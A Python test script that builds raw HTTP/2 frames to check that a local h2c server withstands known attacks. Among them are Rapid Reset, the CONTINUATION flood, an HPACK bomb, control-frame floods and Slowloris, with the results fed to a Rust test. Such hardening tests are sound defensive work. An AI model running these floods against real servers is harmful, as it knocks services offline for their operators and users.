"""HTTP/2 attacks and checks against an h2c server, frame by frame.

    python h2_attacks.py PORT ATTACK

Frames are written by hand (HPACK by the `hpack` package that comes with
`h2`), so each attack sends exactly what it names. Prints one line: what
the server did ("goaway CODE", "closed", "served STATUS", "rst CODE"), for
the Rust test to assert on. Every wait is bounded by a socket timeout.
"""

import socket
import struct
import sys

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def connect(port, window=None):
    sock = socket.create_connection(("127.0.0.1", port), timeout=10)
    settings = b""
    if window is not None:
        settings = struct.pack(">HI", 0x4, window)
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
    return sock


def request_block(path="/plaintext", extra=()):
    fields = [(":method", "GET"), (":scheme", "http"), (":authority", "t"), (":path", path)]
    return hpack.Encoder().encode(fields + list(extra))


def read_frames(sock, until):
    """Reads frames until `until(kind, flags, stream, payload)` returns a
    verdict, the peer closes ("closed"), or the timeout passes ("timeout")."""
    buf = b""
    while True:
        while len(buf) >= 9:
            length = int.from_bytes(buf[:3], "big")
            if len(buf) < 9 + length:
                break
            kind, flags = buf[3], buf[4]
            stream = int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
            payload = buf[9 : 9 + length]
            buf = buf[9 + length :]
            if kind == GOAWAY:
                return "goaway %d" % int.from_bytes(payload[4:8], "big")
            verdict = until(kind, flags, stream, payload)
            if verdict:
                return verdict
        try:
            got = sock.recv(65536)
        except socket.timeout:
            return "timeout"
        except ConnectionResetError:
            return "closed"
        if not got:
            return "closed"
        buf += got


def send_quietly(sock, data):
    try:
        sock.sendall(data)
        return True
    except (BrokenPipeError, ConnectionResetError, socket.timeout):
        return False


def status_of(payload):
    decoder = hpack.Decoder()
    return dict(decoder.decode(payload)).get(":status")


def served(port):
    """A plain GET on a fresh connection: "served STATUS"."""
    sock = connect(port)
    sock.sendall(frame(HEADERS, END_STREAM | END_HEADERS, 1, request_block()))

    def until(kind, flags, stream, payload):
        if kind == HEADERS and stream == 1:
            return "served %s" % status_of(payload)
        if kind == RST_STREAM:
            return "rst %d" % int.from_bytes(payload, "big")
        return None

    verdict = read_frames(sock, until)
    sock.close()
    return verdict


def rapid_reset(port):
    """CVE-2023-44487: open streams and cancel each at once, forever."""
    sock = connect(port)
    block = request_block()
    stream = 1
    for _ in range(2000):
        burst = b""
        for _ in range(50):
            burst += frame(HEADERS, END_STREAM | END_HEADERS, stream, block)
            burst += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
            stream += 2
        if not send_quietly(sock, burst):
            break
    return read_frames(sock, lambda *f: None)


def continuation_flood(port):
    """CVE-2024-27316: one header block that never ends."""
    sock = connect(port)
    sock.sendall(frame(HEADERS, 0, 1, request_block()))
    filler = hpack.Encoder().encode([("x-filler", "a" * 4000)])
    for _ in range(10000):
        if not send_quietly(sock, frame(CONTINUATION, 0, 1, filler)):
            break
    return read_frames(sock, lambda *f: None)


def hpack_bomb(port):
    """A header list far over the limit, made of one big indexed value
    repeated (tiny on the wire, huge decoded)."""
    sock = connect(port)
    encoder = hpack.Encoder()
    first = encoder.encode([("x-bomb", "b" * 4000)])
    # Indexed references to the dynamic table entry just made: one byte each.
    block = request_block() + first + bytes([0x80 | 62]) * 2000
    sock.sendall(frame(HEADERS, END_STREAM | END_HEADERS, 1, block))

    def until(kind, flags, stream, payload):
        if kind == RST_STREAM:
            return "rst %d" % int.from_bytes(payload, "big")
        if kind == HEADERS and stream == 1:
            return "served %s" % status_of(payload)
        return None

    return read_frames(sock, until)


def flood(kind_name):
    def attack(port):
        sock = connect(port)
        if kind_name == "ping":
            one = frame(PING, 0, 0, b"\0" * 8)
        elif kind_name == "settings":
            one = frame(SETTINGS, 0, 0, b"")
        else:  # empty DATA frames on an open stream
            sock.sendall(frame(HEADERS, END_HEADERS, 1, request_block("/echo", [(":method", "POST")])))
            one = frame(DATA, 0, 1, b"")
        for _ in range(200):
            if not send_quietly(sock, one * 100):
                break
        return read_frames(sock, lambda *f: None)

    return attack


def zero_window(port):
    """Asks for a big body with a window of 0 and never opens it: the
    stream must be ended by the server's send timeout."""
    sock = connect(port, window=0)
    sock.sendall(frame(HEADERS, END_STREAM | END_HEADERS, 1, request_block("/big")))

    def until(kind, flags, stream, payload):
        if kind == RST_STREAM and stream == 1:
            return "rst %d" % int.from_bytes(payload, "big")
        return None

    sock.settimeout(20)
    return read_frames(sock, until)


def stream_id_exhaustion(port):
    """The last stream id a client has (2^31 - 1) is served; a stream after
    it can only reuse a lower id, which is a connection error
    (RFC 9113 §5.1.1): "served STATUS then goaway CODE"."""
    sock = connect(port)
    last = 0x7FFFFFFF
    sock.sendall(frame(HEADERS, END_STREAM | END_HEADERS, last, request_block()))

    def answered(kind, flags, stream, payload):
        if kind == HEADERS and stream == last:
            return "served %s" % status_of(payload)
        if kind == RST_STREAM:
            return "rst %d" % int.from_bytes(payload, "big")
        return None

    first = read_frames(sock, answered)
    if not first.startswith("served"):
        return first
    send_quietly(sock, frame(HEADERS, END_STREAM | END_HEADERS, 1, request_block()))
    return first + " then " + read_frames(sock, lambda *f: None)


def drain(port):
    """A request in flight when the server drains: it must be answered,
    and a GOAWAY (NO_ERROR) must name it as processed."""
    sock = connect(port)
    sock.sendall(frame(HEADERS, END_STREAM | END_HEADERS, 1, request_block("/slow")))
    print("sent", flush=True)
    buf, status, ended, goaway = b"", None, False, None
    sock.settimeout(20)
    while not (ended and goaway is not None):
        while len(buf) >= 9 and len(buf) >= 9 + int.from_bytes(buf[:3], "big"):
            length = int.from_bytes(buf[:3], "big")
            kind, flags = buf[3], buf[4]
            stream = int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
            payload, buf = buf[9 : 9 + length], buf[9 + length :]
            if kind == GOAWAY:
                goaway = (int.from_bytes(payload[:4], "big") & 0x7FFFFFFF, int.from_bytes(payload[4:8], "big"))
            elif kind == PING and not flags & ACK:
                sock.sendall(frame(PING, ACK, 0, payload))
            elif kind == HEADERS and stream == 1:
                status = status_of(payload)
                ended = ended or bool(flags & END_STREAM)
            elif kind == DATA and stream == 1:
                ended = ended or bool(flags & END_STREAM)
        try:
            got = sock.recv(65536)
        except (socket.timeout, ConnectionResetError):
            got = b""
        if not got:
            break
        buf += got
    return "served %s ended %s goaway %s" % (status, ended, goaway)


def slow_headers(port):
    """Slowloris over HTTP/2: a header block begun and never finished
    (HEADERS without END_HEADERS), then a frame cut in half. Each must be
    closed by the header timeout: "closed closed"."""
    verdicts = []
    for partial in (
        frame(HEADERS, END_STREAM, 1, request_block()),
        frame(HEADERS, END_STREAM | END_HEADERS, 1, request_block())[:12],
    ):
        sock = connect(port)
        sock.sendall(partial)
        verdicts.append(read_frames(sock, lambda *f: None))
        sock.close()
    return " ".join(verdicts)


ATTACKS = {
    "slow_headers": slow_headers,
    "drain": drain,
    "served": served,
    "rapid_reset": rapid_reset,
    "continuation_flood": continuation_flood,
    "hpack_bomb": hpack_bomb,
    "ping_flood": flood("ping"),
    "settings_flood": flood("settings"),
    "empty_data_flood": flood("data"),
    "zero_window": zero_window,
    "stream_id_exhaustion": stream_id_exhaustion,
}

if __name__ == "__main__":
    print(ATTACKS[sys.argv[2]](int(sys.argv[1])), flush=True)
